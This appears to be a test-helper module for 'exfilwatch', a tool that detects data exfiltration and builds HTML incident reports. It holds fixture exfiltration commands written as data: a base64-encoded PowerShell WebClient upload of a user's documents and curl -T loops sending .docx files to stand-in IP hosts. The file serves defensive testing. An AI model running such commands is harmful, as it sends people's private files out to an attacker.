"""Incidents to make reports of."""

import base64
from collections.abc import Sequence
from functools import cache

from exfilwatch.detection.detection import RuleInfo
from exfilwatch.detection.load import load
from exfilwatch.events.report import Report
from exfilwatch.findings.finding import Finding, finding
from exfilwatch.findings.incident import Incident, group
from exfilwatch.rules.packs import FILTERS, pack
from exfilwatch_playbooks.cli.detect import detections
from exfilwatch_playbooks.demo.telemetry import telemetry
from exfilwatch_playbooks.report.page import html

from ..findings.made import make  # noqa: TID252 (tests are no package on the path)

HIDDEN = "(New-Object Net.WebClient).UploadFile('http://203.0.113.7/in', 'C:\\Users\\anna\\Documents\\plans.zip')"
ENCODED = base64.b64encode(HIDDEN.encode("utf-16-le")).decode()
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


@cache
def demo(host: str) -> tuple[Incident, list[Finding], dict[str, RuleInfo]]:
    """The incident of a host in the scenarios of the demo, found as `exfilwatch run` finds it."""
    rules = load([pack("exfil"), FILTERS])
    with telemetry() as files:
        scenarios = [str(file) for file in files if "scenario" in file.name or "audit" in file.name]
        found = [finding(each) for each in detections(scenarios, rules, Report(), progress=False)]
    incident = max((each for each in group(found) if each.host == host), key=lambda each: len(each.findings))
    return incident, [each for each in found if each.id in incident.findings], {each.id: each for each in rules.infos}


def together(findings: Sequence[Finding]) -> Incident:
    """The one incident that these findings are."""
    (incident,) = group(findings)
    return incident


def page(*findings: Finding) -> str:
    """The report of one incident, without rules."""
    return html(together(findings), findings, {})


def huge(events: int) -> str:
    """The report of an incident of so many events."""
    findings = [
        make(
            f"event {number}",
            number / 20,
            ProcessId=str(1000 + number),
            CommandLine=f"curl -T C:\\Users\\anna\\Documents\\plan-{number}.docx http://203.0.113.9/in/{number}",
            Hashes="SHA256=" + "A1" * 32,
            CurrentDirectory="C:\\Users\\anna\\",
            ParentImage="C:\\Windows\\System32\\cmd.exe",
            ParentCommandLine="cmd.exe /c for %f in (*.docx) do curl -T %f http://203.0.113.9/in/",
            ParentProcessId="900",
        )
        for number in range(events)
    ]
    return page(*findings)
